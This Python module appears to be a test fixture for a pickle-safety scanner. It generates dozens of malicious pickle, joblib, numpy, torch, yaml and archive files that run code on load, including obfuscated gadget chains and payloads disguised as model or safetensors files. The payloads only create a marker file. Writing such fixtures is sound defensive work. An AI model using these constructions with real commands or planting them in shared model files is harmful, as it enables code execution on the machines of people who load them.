"""Files that run code when they are loaded, each in another way; what they run writes a marker.

They are written opcode by opcode and as archives, and are never loaded here but by the reader
under test. `loader` names the ordinary reader that would run the code, where it can be shown on
this machine: `test_payloads_run.py` shows it, in processes of their own.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np


@dataclass(frozen=True, eq=False)
class Payload:
    """One file that runs code.

    Attributes
    ----------
    loader
        The ordinary reader that runs it: pickle, joblib, numpy, torch, yaml, twice (two pickles
        are read); empty where it needs another operating system or package.
    """

    name: str
    content: bytes
    loader: str = "pickle"


# ---- opcodes -------------------------------------------------------------------------------------


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def literal(value: Any) -> bytes:
    """Write a plain value; bytes that are opcodes already are given as Code."""
    match value:
        case Code():
            return value.opcodes
        case str():
            return text(value)
        case bytes():
            return raw(value)
        case bool():
            return b"\x88" if value else b"\x89"
        case int():
            return b"\x8a\x0a" + value.to_bytes(10, "little", signed=True)
        case None:
            return b"N"
        case list():
            return b"](" + b"".join(map(literal, value)) + b"e"
        case dict():
            return b"}(" + b"".join(literal(k) + literal(v) for k, v in value.items()) + b"u"
        case tuple():
            return b"(" + b"".join(map(literal, value)) + b"t"
    raise TypeError(value)


@dataclass(frozen=True)
class Code:
    opcodes: bytes


def named(module: str, name: str) -> Code:
    return Code(text(module) + text(name) + b"\x93")


def line(module: str, name: str) -> Code:
    return Code(f"c{module}\n{name}\n".encode())


def call(what: Code, *given: Any) -> Code:
    return Code(what.opcodes + literal(given) + b"R")


def whole(code: Code, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + code.opcodes + b"."


# ---- by name -------------------------------------------------------------------------------------


def by_name(marker: Path) -> Iterator[Payload]:
    """Call a function that runs commands or code, or writes files."""
    mark, command = str(marker), f"touch {marker}"
    words, code = ["touch", mark], f"open({mark!r}, 'w').close()"
    inner = whole(call(named("posix", "system"), command))
    stream = call(named("io", "BytesIO"), inner)
    calls: list[tuple[str, str, tuple[Any, ...]]] = [
        ("os", "system", (command,)),
        ("posix", "system", (command,)),
        ("os", "popen", (command,)),
        ("os", "mkdir", (mark,)),
        ("posix", "mkdir", (mark,)),
        ("os", "spawnvp", (0, "touch", words)),
        ("os", "symlink", ("/dev/null", mark)),
        ("subprocess", "Popen", (words,)),
        ("subprocess", "run", (words,)),
        ("subprocess", "call", (words,)),
        ("subprocess", "check_call", (words,)),
        ("subprocess", "check_output", (words,)),
        ("subprocess", "getoutput", (command,)),
        ("subprocess", "getstatusoutput", (command,)),
        ("builtins", "eval", (code,)),
        ("builtins", "exec", (code,)),
        ("builtins", "open", (mark, "w")),
        ("io", "open", (mark, "w")),
        ("io", "FileIO", (mark, "w")),
        ("_io", "open", (mark, "w")),
        ("codecs", "open", (mark, "w")),
        ("runpy", "_run_code", (code, {})),
        ("pty", "spawn", (words,)),
        ("shutil", "copy", ("/etc/hostname", mark)),
        ("pickle", "loads", (inner,)),
        ("_pickle", "loads", (inner,)),
        ("pickle", "load", (stream,)),
        ("joblib", "load", (stream,)),
        ("joblib.numpy_pickle", "load", (stream,)),
        ("pandas", "read_pickle", (stream,)),
        ("torch.storage", "_load_from_bytes", (_torch_zip(inner),)),
        ("torch.utils.collect_env", "run", (command,)),
        ("cProfile", "run", (code,)),
        ("profile", "run", (code,)),
        ("timeit", "timeit", (code, "pass", named("time", "perf_counter"), 1)),
        ("timeit", "repeat", (code, "pass", named("time", "perf_counter"), 1, 1)),
        ("bdb", "Bdb.run", (call(named("bdb", "Bdb")), code)),
        ("trace", "Trace.run", (call(named("trace", "Trace"), 0, 0), code)),
        ("code", "InteractiveInterpreter.runsource", (
            call(named("code", "InteractiveInterpreter")), code)),
        ("idlelib.calltip", "get_entity", (code,)),
        ("distutils.spawn", "spawn", (words,)),
        ("distutils.file_util", "write_file", (mark, [])),
        ("numpy.f2py.crackfortran", "myeval", (code, {}, {})),
        ("numpy.testing._private.utils", "runstring", (code, {})),
        ("numpy", "savetxt", (mark, [])),
        ("numpy", "save", (mark + ".npy", [])),
        ("pathlib", "Path.touch", (call(named("pathlib", "Path"), mark),)),
        ("pathlib", "Path.mkdir", (call(named("pathlib", "PosixPath"), mark),)),
        ("logging", "FileHandler", (mark,)),
        ("zipfile", "ZipFile", (mark, "w")),
        ("tarfile", "open", (mark, "w")),
        ("gzip", "open", (mark, "w")),
        ("bz2", "open", (mark, "w")),
        ("lzma", "open", (mark, "w")),
        ("tempfile", "NamedTemporaryFile", ("w", -1, None, None, "", mark, None, False)),
        ("urllib.request", "urlretrieve", ("data:,x", mark)),
        ("multiprocessing.util", "spawnv_passfds", (b"/usr/bin/touch", words, [])),
        ("pydoc", "pipepager", ("", command)),
        ("uuid", "_get_command_stdout", ("touch", mark)),
        ("_osx_support", "_read_output", (command,)),
        ("commands", "getoutput", (command,)),
        ("sqlite3", "connect", (mark,)),
        ("dbm.dumb", "open", (mark, "n")),
        ("shelve", "open", (mark, "n")),
        ("doctest", "script_from_examples", (f">>> {code}",)),
    ]  # fmt: skip
    not_here = {"commands", "_osx_support", "sqlite3", "doctest"}
    for module, name, given in calls:
        loader = "" if module in not_here else "pickle"
        yield Payload(f"{module}.{name}", whole(call(named(module, name), *given)), loader)
    for module, name in (
        ("nt", "system"), ("_winapi", "CreateProcess"), ("msilib", "OpenDatabase"),
        ("winreg", "CreateKey"), ("webbrowser", "open"), ("socket", "create_connection"),
        ("paramiko", "SSHClient"), ("dill", "loads"), ("cloudpickle", "loads"),
        ("torch", "load"), ("keras.models", "load_model"), ("ctypes", "CDLL"),
        ("pip", "main"), ("ensurepip", "_run_pip"), ("some_new_package", "run"),
    ):  # fmt: skip
        yield Payload(f"{module}.{name}", whole(call(named(module, name), command)), "")
    yield from _chains(mark, command, code)


def _chains(mark: str, command: str, code: str) -> Iterator[Payload]:
    """Reach a function in several steps, none of which need be on a list."""
    system = ("posix", "system")

    def builtin(name: str) -> Code:
        return named("builtins", name)

    imported = call(builtin("__import__"), "os")
    steps = {
        "getattr of an import": call(call(builtin("getattr"), imported, "system"), command),
        "importlib": call(
            call(builtin("getattr"), call(named("importlib", "import_module"), "os"), "system"),
            command,
        ),
        "attrgetter": call(
            call(call(named("operator", "attrgetter"), "system"), imported), command
        ),
        "methodcaller": call(call(named("operator", "methodcaller"), "system", command), imported),
        "partial": call(call(named("functools", "partial"), named(*system), command)),
        "reduce": call(named("functools", "reduce"), named("os", "mkdir"), [mark, 511]),
        "map": call(builtin("list"), call(builtin("map"), named(*system), [command])),
        "filter": call(builtin("list"), call(builtin("filter"), named(*system), [command])),
        "resolve_name": call(call(named("pkgutil", "resolve_name"), "os:system"), command),
        "logging": call(call(named("logging.config", "_resolve"), "os.system"), command),
        "pydoc.locate": call(call(named("pydoc", "locate"), "os.system"), command),
        "compile": call(builtin("exec"), call(builtin("compile"), code, "x", "exec")),
        "code object": call(
            call(
                named("types", "FunctionType"),
                call(named("marshal", "loads"), marshal.dumps(compile(code, "x", "exec"))),
                call(builtin("globals")),
            )
        ),
        "random generator": call(
            named("numpy.random._pickle", "__randomstate_ctor"), command, named(*system)
        ),
        "thread": call(
            builtin("getattr"),
            call(named("threading", "Timer"), 0, named(*system), [command]),
            "start",
        ),
    }
    steps["thread"] = call(steps["thread"])
    for name, step in steps.items():
        yield Payload(f"chain: {name}", whole(step))
    dotted = (
        ("sklearn.base", "inspect.os.system"), ("joblib.numpy_pickle", "os.system"),
        ("logging", "os.system"), ("pathlib", "os.system"), ("numpy.lib._npyio_impl", "os.system"),
        ("collections", "_sys.modules.get"),
        ("random", "_os.system"),
    )  # fmt: skip
    for module, name in dotted:
        get = name.endswith("get")
        ran = call(named(module, name), "os" if get else command)
        ran = call(call(builtin("getattr"), ran, "system"), command) if get else ran
        yield Payload(f"dotted: {module} {name}", whole(ran))


# ---- by opcode -----------------------------------------------------------------------------------


class Bomb:
    """Makes a folder when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.mkdir, (str(self.marker),)


def by_opcode(marker: Path) -> Iterator[Payload]:
    """Call os.system and its like by every opcode that can."""
    command, mark = f"touch {marker}", str(marker)
    for protocol in range(6):
        yield Payload(f"protocol {protocol}", pickle.dumps({"m": [Bomb(marker)]}, protocol))
    for protocol in (0, 1, 2, 3):
        body = call(line("posix", "system"), command).opcodes + b"."
        yield Payload(f"no protocol, {protocol} extra tuples", b")0" * protocol + body)
    system = named("posix", "system").opcodes
    hidden = b"\x80\x04" + system + text(command) + b"\x85R0"
    steps: dict[str, bytes] = {
        "INST": b"(" + text(command) + b"iposix\nsystem\n.",
        "OBJ": b"\x80\x04(" + system + text(command) + b"o.",
        "OBJ of a class": b"\x80\x04(" + named("subprocess", "Popen").opcodes
        + literal(["touch", mark]) + b"o.",
        "memo": b"\x80\x04" + text("system") + b"q\x010" + text("posix") + b"q\x020h\x02h\x01\x93"
        + text(command) + b"\x85R.",
        "memo number used twice": b"\x80\x04" + text("exp") + b"q\x010" + text("system")
        + b"q\x010" + text("posix") + b"h\x01\x93" + text(command) + b"\x85R.",
        "long memo": b"\x80\x04" + text("system") + b"r\xff\x00\x00\x000" + text("posix")
        + b"j\xff\x00\x00\x00\x93" + text(command) + b"\x85R.",
        "DUP": b"\x80\x04" + system + b"2" + text(command) + b"\x85R0.",
        "name made by str": b"\x80\x04" + call(named("builtins", "str"), "posix").opcodes
        + text("system") + b"\x93" + text(command) + b"\x85R.",
        "name made by rot13": b"\x80\x04" + text("posix")
        + call(named("codecs", "decode"), "flfgrz", "rot13").opcodes + b"\x93"
        + text(command) + b"\x85R.",
        "cut off": hidden,
        "frame": b"\x80\x04\x95" + struct.pack("<Q", len(hidden) - 1) + hidden[2:] + b"N.",
        "protocol twice": b"\x80\x02\x80\x04" + system + text(command) + b"\x85R.",
        "renamed module": b"\x80\x02c__builtin__\neval\n" + text(f"open({mark!r},'w')") + b"\x85R.",
        "python 2 name": b"\x80\x02ccommands\ngetoutput\n" + text(command) + b"\x85R.",
        "NEWOBJ": b"\x80\x04" + named("numpy", "memmap").opcodes
        + literal((mark, "u1", "w+", 0, (1,))) + b"\x81.",
        "NEWOBJ_EX": b"\x80\x04" + named("numpy", "memmap").opcodes + b")"
        + literal({"filename": mark, "mode": "w+", "shape": (1,)}) + b"\x92.",
        "state of a class": b"\x80\x04" + named("sklearn.model_selection._split", "KFold").opcodes
        + b"N" + literal({"__setstate__": named("posix", "system")}) + b"\x86b)\x81"
        + text(command) + b"b.",
        "state that is code": b"\x80\x04" + named("scipy.stats._continuous_distns",
                                                  "norm_gen").opcodes
        + b")\x81" + literal({"_parse_arg_template": f"open({mark!r}, 'w').close()"}) + b"b.",
        "hash of an instance": b"\x80\x04\x8f(" + call(named("posix", "system"), command).opcodes
        + b"\x90.",
        "in front of a model": hidden + pickle.dumps({"a": 1}, 4)[2:],
    }  # fmt: skip
    elsewhere = {"frame", "python 2 name"}
    for name, content in steps.items():
        yield Payload(f"opcode: {name}", content, "" if name in elsewhere else "pickle")
    for code, size in ((b"\x82", "<B"), (b"\x83", "<H"), (b"\x84", "<i")):
        added = call(named("copyreg", "add_extension"), "posix", "system", 200).opcodes
        content = b"\x80\x04" + added + b"0" + code + struct.pack(size, 200)
        yield Payload(f"extension {size}", content + text(command) + b"\x85R.")
    kept = pickle.dumps({"a": 1}) + pickle.dumps(Bomb(marker), 0)
    yield Payload("a second pickle of protocol 0", kept, "twice")
    yield Payload("a second pickle", pickle.dumps({"a": 1}) + pickle.dumps(Bomb(marker)), "twice")


# ---- by container --------------------------------------------------------------------------------


def zipped(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _torch_zip(data: bytes) -> bytes:
    return zipped(**{"archive/data.pkl": data, "archive/version": b"3\n",
                     "archive/byteorder": b"little"})  # fmt: skip


def _tarred(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return stream.getvalue()


def by_container(marker: Path) -> Iterator[Payload]:
    """Hide a pickle that runs code in archives, arrays and files of several formats."""
    bomb = pickle.dumps(Bomb(marker))
    packers: dict[str, Callable[[bytes], bytes]] = {
        "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress,
        "lzma": lambda c: lzma.compress(c, format=lzma.FORMAT_ALONE),
    }  # fmt: skip
    for name, packer in packers.items():
        yield Payload(f"joblib, {name}", packer(bomb), "joblib")
    yield Payload("torch", _torch_zip(bomb), "torch")
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    legacy = [magic, pickle.dumps(1001, 2), pickle.dumps({}, 2), pickle.dumps(Bomb(marker), 2)]
    yield Payload("torch, older format", b"".join([*legacy, pickle.dumps([], 2)]), "torch")
    yield Payload("torch, oldest format", _tarred(pickle=bomb, storages=b"", tensors=b""), "")
    yield Payload("zip, odd name", zipped(weights=bomb), "")
    yield Payload("zip, text name", zipped(**{"readme.txt": pickle.dumps(Bomb(marker), 0)}), "")
    yield Payload("zip in zip", zipped(inner=zipped(model=bomb)), "")
    yield Payload("gzip in zip", zipped(inner=gzip.compress(bomb)), "")
    yield Payload("zip in gzip in tar", _tarred(x=gzip.compress(zipped(model=bomb))), "")
    yield Payload("tar in gzip", gzip.compress(_tarred(model=bomb)), "")
    yield Payload("pickle in front of a zip", bomb + zipped(a=b"text"), "pickle")
    yield Payload("pickle in a zip behind a pickle", pickle.dumps(1) + zipped(model=bomb), "")
    yield Payload("taken for safetensors", _like_safetensors(marker), "pickle")
    yield Payload("yaml", f"!!python/object/apply:os.mkdir ['{marker}']".encode(), "yaml")
    yield from _arrays(marker)
    yield from _wrappers(marker)


def _like_safetensors(marker: Path) -> bytes:
    """Write a pickle whose first 9 bytes pass for the header of safetensors."""
    head = b"U\x07" + bytes(6) + b"{0"
    body = head + call(line("posix", "mkdir"), str(marker)).opcodes + b"."
    return body + bytes(2000)


def _arrays(marker: Path) -> Iterator[Payload]:
    stream = io.BytesIO()
    np.save(stream, np.array([Bomb(marker)], dtype=object))
    yield Payload("npy of objects", stream.getvalue(), "numpy")
    stream = io.BytesIO()
    np.savez(stream, x=np.zeros(2), y=np.array([Bomb(marker)], dtype=object))
    yield Payload("npz of objects", stream.getvalue(), "npz")
    bomb = pickle.dumps(Bomb(marker), 2)
    headers = {
        "structured": "{'descr': [('a', '<f8'), ('b', '|O')], 'fortran_order': False, "
        "'shape': (1,), }",
        "nested": "{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }",
        "key twice": "{'descr': '<f8', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
        "odd quotes": '{"descr": "|O", "fortran_order": False, "shape": (1,), }',
        "key order": "{'shape': (1,), 'fortran_order': False, 'descr': 'O', }",
        "number of bytes": "{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }",
    }
    for name, header in headers.items():
        line = header.encode() + b" " * 20 + b"\n"
        start = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(line)) + line
        yield Payload(f"npy, {name}", start + bomb, "numpy")
        if name == "structured":
            wide = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(line)) + line
            yield Payload("npy of version 2", wide + bomb, "numpy")


def _wrapper(state: dict[str, Any]) -> bytes:
    made = named("joblib.numpy_pickle", "NumpyArrayWrapper").opcodes + b")\x81"
    return b"\x80\x04" + made + literal(state) + b"b"


def _wrappers(marker: Path) -> Iterator[Payload]:
    """Write wrappers of joblib whose numbers stand elsewhere than a quick look suggests."""
    stream = io.BytesIO()
    joblib.dump({"a": np.array([Bomb(marker)], dtype=object)}, stream)
    yield Payload("joblib array of objects", stream.getvalue(), "joblib")
    stream = io.BytesIO()
    joblib.dump([np.arange(100.0), Bomb(marker)], stream)
    yield Payload("joblib, behind an array", stream.getvalue(), "joblib")
    run = call(line("posix", "mkdir"), str(marker)).opcodes
    kind = call(named("numpy", "dtype"), "u1", False, True)
    plain = {"subclass": named("numpy", "ndarray"), "order": "C", "allow_mmap": False}
    shapes = {
        "shape as a list": {**plain, "dtype": kind, "shape": [2]},
        "shape by a call": {**plain, "dtype": kind, "shape": call(named("builtins", "tuple"), [2])},
        "shape by numpy": {**plain, "dtype": kind, "shape": (
            call(named("numpy._core.multiarray", "scalar"), kind, b"\x02"),)},
        "type by text": {**plain, "dtype": call(named("numpy", "dtype"), "O"), "shape": (1,)},
        "type of objects": {**plain, "shape": (1,), "dtype": call(
            named("numpy", "dtype"), "|O", False, True)},
        "type by its name": {**plain, "shape": (1,), "dtype": call(named("numpy", "dtype"),
                                                                   "object")},
        "type by a class": {**plain, "shape": (1,), "dtype": call(
            named("numpy", "dtype"), named("builtins", "object"))},
    }  # fmt: skip
    bomb = pickle.dumps(Bomb(marker), 4)
    for name, state in shapes.items():
        inside = bomb if name.startswith("type") else b"NN0" + run
        yield Payload(f"joblib, {name}", _wrapper(state) + inside + b"0.", "joblib")
    state = {**plain, "dtype": kind, "shape": (len(run) + 2,)}
    body = _wrapper(state)[2:] + b"0" + run + b"."
    framed = b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + bytes(len(run) + 2)
    yield Payload("joblib, behind the frame", framed, "joblib")
    again = _wrapper({**plain, "dtype": kind, "shape": (0,)})[:-1] + b"q\x05"
    yield Payload("joblib, wrapper in the memo", again + b"b0" + run + b".", "joblib")


def payloads(marker: Path) -> list[Payload]:
    """Make every file; what they run makes `marker`."""
    return [*by_name(marker), *by_opcode(marker), *by_container(marker)]
